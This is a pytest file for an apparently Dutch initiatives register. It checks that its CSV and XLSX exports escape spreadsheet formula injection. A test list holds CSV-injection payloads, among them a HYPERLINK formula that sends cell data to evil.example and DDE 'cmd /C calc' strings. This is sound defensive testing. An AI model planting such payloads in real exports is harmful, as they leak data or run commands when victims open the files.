"""Exports never hand a spreadsheet a formula (issue 17, point 3)."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from initiatives import tabular
from security.cells import FORMULA_PREFIXES, safe_cell, unescape_cell
from tests.initiatives.factories import InitiativeFactory

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1dSUM(1,1)",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text
    assert unescape_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    "value", [Decimal("-12.50"), -3, 1.5, True, None, "-12.50", "+31", "12", "Buurtkeuken", ""]
)
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_every_owasp_prefix_is_covered():
    assert {"=", "+", "-", "@", "\t", "\r"} <= set(FORMULA_PREFIXES)


@pytest.fixture
def hostile_register(area):
    return [
        InitiativeFactory(name=text, slug=f"vijandig-{i}", summary=text, area=area)
        for i, text in enumerate(HOSTILE)
    ]


def _csv(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body)))


def _assert_no_cell_starts_a_formula(rows: list[dict]):
    assert rows
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_PREFIXES) or value.lstrip("+-").isdigit(), value


def test_public_register_csv_has_no_formula_cells(client, hostile_register):
    rows = _csv(client.get("/initiatieven/export.csv"))
    _assert_no_cell_starts_a_formula(rows)
    assert {row["naam"] for row in rows} == {"'" + text for text in HOSTILE}


def test_staff_csv_and_xlsx_have_no_formula_cells(client, hostile_register, civil_servant):
    client.force_login(civil_servant)
    _assert_no_cell_starts_a_formula(_csv(client.get("/initiatieven/export-volledig.csv")))

    response = client.get("/initiatieven/export-volledig.xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
    names = {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    # XML turns a carriage return into a line feed; the quote in front is what counts.
    assert names == {("'" + text).replace("\r", "\n") for text in HOSTILE}


def test_open_data_csv_has_no_formula_cells(client, hostile_register):
    response = client.get("/open-data/initiatieven.csv", {"jaar": "alle"})
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    _assert_no_cell_starts_a_formula(rows)
    assert len(rows) == len(HOSTILE)


def test_an_exported_name_imports_back_unchanged(hostile_register):
    buffer = io.StringIO()
    buffer.write("".join(tabular.write_csv(hostile_register, tabular.PUBLIC_COLUMNS)))
    table = tabular.read_table(buffer.getvalue().encode(), "terug.csv")
    # csv strips nothing, but our reader strips surrounding blanks, as for any cell.
    assert [raw["naam"] for _line, raw in table] == [text.strip() for text in HOSTILE]
